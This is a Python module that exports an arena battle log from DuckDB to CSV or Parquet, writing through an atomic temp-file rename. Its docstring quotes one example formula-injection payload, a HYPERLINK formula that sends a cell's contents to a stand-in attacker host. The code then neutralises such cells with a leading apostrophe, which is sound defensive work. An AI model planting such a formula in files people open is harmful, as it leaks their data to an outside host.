"""Battle log export for analysts: a CSV or Parquet file written by DuckDB itself.

DuckDB's `COPY ... TO` writes both formats faithfully (quoting, types, time zones) without
pulling the table through pandas. The export opens the file read-only, so it never
changes the log, and writes to a temporary name before renaming, so a reader (or a
cron job that syncs the folder) never sees half a file.

CSV is the format people double-click, and prompts and comments are typed by anonymous
voters: a cell such as `=HYPERLINK("https://evil.example/?"&A1)` would run as a formula in
a spreadsheet. So a CSV text cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage
return (OWASP's list) gets a leading apostrophe, which spreadsheets take as "this is
text". A cell that already begins with an apostrophe gets one more, so the way back is
one rule: strip one leading apostrophe from every text cell that has one. Parquet is
always exact, and `spreadsheet_safe=False` (`export --exact-csv`) writes CSV as logged.
"""

from __future__ import annotations

import contextlib
import os
import secrets
from pathlib import Path
from typing import Literal

import duckdb

from app.core.store.database import StoreError, open_database
from app.core.store.migrations import (
    ANALYST_COLUMNS,
    EXTRA_COLUMNS,
    PRIVATE_COLUMNS,
    pending_migrations,
)

ExportFormat = Literal["csv", "parquet"]

_COPY_OPTIONS: dict[str, str] = {"csv": "FORMAT csv, HEADER true", "parquet": "FORMAT parquet"}
# A text cell starting with one of these gets an apostrophe in a spreadsheet-safe CSV (the
# apostrophe itself is in the list so that removing one is always the way back).
FORMULA_TRIGGERS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r", "'")
_TRIGGERS_SQL = ", ".join(f"chr({ord(c)})" for c in FORMULA_TRIGGERS)


def export_columns(include_private: bool = False) -> tuple[str, ...]:
    """The exported columns, in order: analyst columns, then the rest, then private ones."""
    return ANALYST_COLUMNS + EXTRA_COLUMNS + (PRIVATE_COLUMNS if include_private else ())


def select_list(
    con: duckdb.DuckDBPyConnection,
    columns: tuple[str, ...],
    *,
    spreadsheet_safe: bool,
    alias: str = "",
) -> str:
    """The SELECT list that exports `columns` of `battles`: as stored, or with every text
    cell a spreadsheet would run as a formula prefixed by an apostrophe."""
    text_columns = {
        name
        for (name,) in con.execute(
            "SELECT column_name FROM duckdb_columns() WHERE database_name = current_database() "
            "AND schema_name = 'main' AND table_name = 'battles' AND data_type = 'VARCHAR'"
        ).fetchall()
    }
    parts = []
    for column in columns:
        ref = f'{alias}"{column}"'
        if spreadsheet_safe and column in text_columns:  # chr(39): the apostrophe
            starts_a_formula = f"left({ref}, 1) IN ({_TRIGGERS_SQL})"
            ref = f"CASE WHEN {starts_a_formula} THEN chr(39) || {ref} ELSE {ref} END"
        parts.append(f'{ref} AS "{column}"')
    return ", ".join(parts)


def export_battles(
    db_path: str | os.PathLike[str],
    out: str | os.PathLike[str],
    fmt: ExportFormat = "csv",
    *,
    include_private: bool = False,
    spreadsheet_safe: bool = True,
) -> int:
    """Write every battle, oldest first, to `out` as CSV or Parquet; return the row count.

    `session_hash` is left out unless `include_private` is set. CSV text cells that a
    spreadsheet would run as a formula get a leading apostrophe unless `spreadsheet_safe`
    is False (see the module docstring); Parquet is always exact. Raises `StoreError` (or
    `StoreLockedError` while the arena app has the file open) with advice.
    """
    db_path = Path(db_path)
    if not db_path.is_file():
        raise StoreError(
            f"No battle log at {db_path}. Pass the right file with --db or ARENA_DB_PATH."
        )
    con = open_database(db_path, read_only=True)
    try:
        return export_from(
            con,
            out,
            fmt,
            include_private=include_private,
            spreadsheet_safe=spreadsheet_safe,
            source=db_path,
        )
    finally:
        con.close()


def export_from(
    con: duckdb.DuckDBPyConnection,
    out: str | os.PathLike[str],
    fmt: ExportFormat = "csv",
    *,
    include_private: bool = False,
    spreadsheet_safe: bool = True,
    source: str | os.PathLike[str] = "the battle log",
    voted_only: bool = False,
) -> int:
    """`export_battles` on an open connection: the log itself or the analysts' snapshot;
    `voted_only` leaves out the battles without a vote (failed, abandoned, unjudged)."""
    if fmt not in _COPY_OPTIONS:
        raise ValueError(f"format must be one of {sorted(_COPY_OPTIONS)}, not {fmt!r}")
    out = Path(out)
    pending = pending_migrations(con)
    if pending:
        raise StoreError(
            f"The battle log {source} has an older schema (missing: {', '.join(pending)}). "
            "Start the arena (or open it with BattleStore) once to upgrade it, then export."
        )
    safe = spreadsheet_safe and fmt == "csv"
    columns = select_list(con, export_columns(include_private), spreadsheet_safe=safe)
    where = "WHERE winner IS NOT NULL" if voted_only else ""
    out.parent.mkdir(parents=True, exist_ok=True)
    # Same folder, so the rename is atomic; DuckDB creates it with the usual umask.
    tmp_name = str(out.parent / f".{out.name}.{os.getpid()}-{secrets.token_hex(4)}.tmp")
    try:
        row = con.execute(
            f"COPY (SELECT {columns} FROM battles {where} ORDER BY created_at, battle_id) "
            f"TO $path ({_COPY_OPTIONS[fmt]})",
            {"path": tmp_name},
        ).fetchone()
        os.replace(tmp_name, out)
    except BaseException:
        with contextlib.suppress(FileNotFoundError):
            os.unlink(tmp_name)
        raise
    return int(row[0]) if row else 0
